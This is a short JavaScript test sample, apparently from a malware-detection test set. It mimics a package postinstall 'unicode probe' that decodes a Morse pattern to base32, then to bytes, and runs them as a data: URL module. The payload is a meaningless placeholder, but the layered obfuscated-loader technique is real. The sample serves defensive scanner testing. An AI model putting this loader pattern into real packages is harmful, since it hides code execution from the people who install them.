// expect: suspicious
// when: install
// source: blind set 48's log-symbols-x (morse-encoded-stage, second sample): a postinstall "unicode probe" turns a Morse
// pattern into base32 text, a hand-written base32 helper fills a byte list, and the bytes run as a data: URL module
import { fileURLToPath } from 'node:url';
const TABLE = { '.-': 'A', '-...': 'B', '-.-.': 'C', '..---': '2', '...--': '3' };
const PATTERN = ['.- -... -.-. ..--- ...-- .- -...'];
function fromB32(s) {
  const alpha = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = 0, val = 0;
  const out = [];
  for (const c of s) {
    val = (val << 5) | alpha.indexOf(c);
    bits += 5;
    if (bits >= 8) { out.push((val >>> (bits - 8)) & 255); bits -= 8; }
  }
  return Buffer.from(out);
}
async function probe() {
  const text = PATTERN.join(' ').split(' ').map((t) => TABLE[t] || '').join('');
  try { await import('data:text/javascript;base64,' + fromB32(text).toString('base64')); } catch {}
}
console.log(fileURLToPath(import.meta.url));
await probe();
